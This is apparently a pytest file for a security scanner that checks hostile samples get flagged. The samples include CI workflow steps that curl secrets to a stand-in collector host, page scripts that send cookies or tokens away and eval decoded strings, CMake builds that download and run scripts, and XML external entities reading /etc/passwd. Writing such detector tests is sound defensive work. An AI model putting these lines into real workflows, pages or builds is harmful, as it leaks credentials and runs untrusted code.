"""Secrets in workflows, pages that send cookies away, builds that run what they fetch, external entities."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect

WORKFLOW = "on: push\njobs:\n  a:\n    steps:\n      - env:\n          S: {}\n        run: |\n          {}\n"
ALL = "${{ toJSON(secrets) }}"
PAGE = "<!doctype html><html><body><script>\n{}\n</script></body></html>"
CMAKE = "project(x)\nfile(DOWNLOAD {} ${{CMAKE_BINARY_DIR}}/{})\n{}\n"
FROM = "https://files.example/gen.sh"


def denied(name: str, text: str) -> bool:
    return any(found.severity.rank >= Severity.HIGH.rank for found in inspect(text.encode(), name).findings)


@pytest.mark.parametrize(
    ("held", "command", "expected"),
    [
        (ALL, 'echo "$S" | base64 -w0 | curl -s -d @- https://collect.example', True),
        (ALL, "curl -d \"${S}\" https://collect.example", True),
        ("${{ secrets.HF_TOKEN }}", "curl -d \"t=$S\" https://collect.example/t", True),
        (ALL, "python train.py --seed $SEED", False),
        ("${{ github.sha }}", "curl -d \"$S\" https://builds.example", False),
        ("${{ secrets.DEPLOY_TOKEN }}", "./deploy.sh \"$S\"", False),
    ],
)  # fmt: skip
def test_secrets_that_a_step_holds_in_a_variable(held: str, command: str, expected: bool) -> None:
    assert denied(".github/workflows/a.yml", WORKFLOW.format(held, command)) is expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("fetch('https://c.example/?d=' + btoa(document.cookie));", True),
        ("const t = localStorage.getItem('hf_token');\nfetch(`https://c.example/${t}`);", True),
        ("var t = document.cookie;\nnew Image().src = 'https://c.example/?' + t;", True),
        ("eval(atob('YWxlcnQoMSk='));", True),
        ("const t = localStorage.getItem('theme');\nfetch(`https://c.example/${t}`);", False),
        ("const t = document.cookie;\nfetch('/api', {headers: {c: t}});", False),
        ("const img = atob('AAAA'); fetch('https://api.example/v1?text=' + text);", False),
    ],
)
def test_pages(script: str, expected: bool) -> None:
    assert denied("index.html", PAGE.format(script)) is expected


@pytest.mark.parametrize(
    ("made", "then", "expected"),
    [
        ("gen.sh", "execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/gen.sh)", True),
        ("gen", "execute_process(COMMAND ${CMAKE_BINARY_DIR}/gen)", True),
        ("gen.py", 'execute_process(COMMAND "${Python_EXECUTABLE}" ${CMAKE_BINARY_DIR}/gen.py)', True),
        ("gen.cmake", "include(${CMAKE_BINARY_DIR}/gen.cmake)", True),
        ("a.tgz", "execute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf ${CMAKE_BINARY_DIR}/a.tgz)", False),
        ("gen.sh", "execute_process(COMMAND sh tools/version.sh)", False),
    ],
)
def test_builds_that_fetch(made: str, then: str, expected: bool) -> None:
    assert denied("CMakeLists.txt", CMAKE.format(FROM, made, then)) is expected


@pytest.mark.parametrize(
    ("prologue", "expected"),
    [
        ('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', True),
        ('<!DOCTYPE PMML [<!ENTITY % x PUBLIC "a" "http://files.example/x.dtd">]>', True),
        ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">', False),
        ('<!DOCTYPE PMML [<!ENTITY ns "http://www.dmg.org/PMML-4_4">]>', False),
    ],
)
def test_external_entities(prologue: str, expected: bool) -> None:
    assert denied("model.pmml", f'<?xml version="1.0"?>\n{prologue}\n<PMML version="4.4"/>') is expected
